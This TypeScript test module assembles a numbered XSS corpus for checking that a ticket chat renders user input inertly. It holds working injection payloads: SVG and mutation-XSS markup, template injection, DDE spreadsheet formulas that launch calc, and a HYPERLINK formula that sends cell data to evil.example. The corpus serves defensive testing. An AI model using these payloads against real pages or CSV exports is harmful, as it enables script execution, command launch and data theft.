// The XSS suite's corpus (issue 27 §2): the ticket chat's inertness payloads (widgets' xssCorpus.ts)
// plus the shapes it lacks — SVG and mXSS nesting, namespace confusion, broken markup, template
// injection ({{…}}, ${…}, ICU), spreadsheet formulas, RTL and zero-width tricks, a 10,000-character
// word. Anything that ran would set `window.__sakhliXss` or open a dialog (alert/confirm/print).
import { XSS_FLAG, XSS_PAYLOADS } from '../../packages/widgets/src/ticket-chat/xssCorpus';

export { XSS_FLAG };

const set = (n: number) => `window.${XSS_FLAG}=${n}`;

/** Shapes the chat's corpus does not have; numbered on from it (the flag's value names the payload). */
const MORE: readonly string[] = [
  // dialogs: a payload that ran would open one (the suite fails on any dialog)
  `<img src=x onerror="alert(document.domain)">`,
  `<details open ontoggle=confirm(1)><summary>d</summary></details>`,
  // SVG
  `<svg><animate onbegin="${set(101)}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><a xlink:href="javascript:${set(102)}"><text x="20" y="20">svg link</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${set(103)}</script>"></iframe></foreignObject></svg>`,
  // mXSS: markup that changes meaning when parsed, serialised and parsed again
  `<noscript><style></noscript><img src=x onerror="${set(104)}"></style></noscript>`,
  `<style><style/><img src=x onerror="${set(105)}">`,
  `<template><style></template><img src=x onerror="${set(106)}"></style></template>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${set(107)}>">`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${set(108)} src=1>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${set(109)}>`,
  // broken markup
  `<img src=x onerror=${set(110)}//`,
  `<<script>script>${set(111)}<</script>/script>`,
  `</textarea></title></style></script><img src=x onerror=${set(112)}>`,
  `<a href="https://example.com`,
  `<scr<script>ipt>${set(113)}</scr</script>ipt>`,
  // data: URLs
  `<img src="data:image/svg+xml,<svg onload='${set(114)}'></svg>">`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  // template injection: React, ICU (react-intl), server templates
  `{{constructor.constructor('${set(115)}')()}}`,
  `\${${set(116)}}`,
  `{a, select, x {<b>{b}</b>} other {'{'}}}`,
  `{count, plural, one {#} other {# <img src=x onerror=${set(117)}>}}`,
  `#{7*7} <%= 7*7 %> {{7*7}}`,
  // spreadsheet formulas (CSV exports)
  `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  // RTL override and zero-width characters
  `invoice\u202Efdp.exe`,
  `ad\u200Bmin\u200D\uFEFF\u2060 zero-width`,
  `\u2066\u2067\u2068nested isolates\u2069\u2069\u2069 \u200F`,
  // a 10,000-character word: it must wrap or ellipsis, never widen the page
  'Ⴝ'.repeat(2_500) + 'W'.repeat(7_500),
];

export interface Payload {
  /** 1-based position in the corpus, for the coverage line and failures. */
  n: number;
  text: string;
}

/** The whole corpus, numbered. */
export const CORPUS: readonly Payload[] = [...XSS_PAYLOADS, ...MORE].map((text, i) => ({
  n: i + 1,
  text,
}));

/**
 * What a screen would show of a payload rendered as text (the API trims user input): its first 24
 * characters after trimming, so a screen that cuts a long one with an ellipsis still counts.
 */
export function needle(text: string): string {
  return text.trim().slice(0, 24);
}
